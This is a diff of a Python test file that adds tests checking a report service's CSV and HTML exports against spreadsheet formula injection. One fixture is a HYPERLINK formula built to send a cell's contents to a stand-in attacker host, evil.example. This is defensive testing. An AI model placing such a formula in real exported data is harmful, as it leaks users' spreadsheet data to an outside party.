@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import Iterator
+from html import escape
 from pathlib import Path
 
 import pytest
@@ -14,9 +17,11 @@ from collector.access import Role
 from collector.alarms import AlarmEngine
 from collector.api.app import create_app
 from collector.api.auth import create_user
+from collector.reports.service import spreadsheet_safe
 from collector.sites.inventory import load_inventory
 from collector.tickets.flows import TicketAlarmListener
 from protocol import AlarmEvent, Severity, Transition
+from tests.collector.conftest import declaration
 
 INVENTORY = Path(__file__).resolve().parents[3] / "firmware_config" / "inventory"
 NOTICE = {
@@ -107,3 +112,39 @@ def test_monthly_report_figures_csv_and_page(
         "/api/v1/reports/monthly?month=2026-01&client_id=op-beta", headers=alpha
     ).json()
     assert mine["client_id"] == "op-alpha"  # a client only ever gets its own report
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"details")'
+
+
+def test_a_client_reference_never_runs_as_a_formula_in_the_csv_or_the_page(
+    app: tuple[TestClient, dict[str, str], dict[str, str]],
+) -> None:
+    client, noc, alpha = app
+    declared = client.post("/api/v1/tickets", json=declaration(client_ref=FORMULA), headers=alpha)
+    assert declared.status_code == 201, declared.text
+    url = "/api/v1/reports/monthly?month=2026-01&client_id=op-alpha&format="
+    rows = list(csv.reader(io.StringIO(client.get(url + "csv", headers=noc).text)))
+    assert [r[1] for r in rows if r and r[0] == declared.json()["ref"]] == ["'" + FORMULA]
+    assert escape("'" + FORMULA) in client.get(url + "html", headers=noc).text
+
+
+@pytest.mark.parametrize(
+    ("cell", "safe"),
+    [
+        ("=1+2", "'=1+2"),
+        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("HEB00001", "HEB00001"),
+        ("-12.5", "-12.5"),  # a number written as text stays a number
+        ("+1e3", "+1e3"),
+        (-12.5, -12.5),
+        (0, 0),
+        (None, None),
+    ],
+)
+def test_spreadsheet_safe_quotes_formulas_and_keeps_numbers(cell: object, safe: object) -> None:
+    assert spreadsheet_safe(cell) == safe
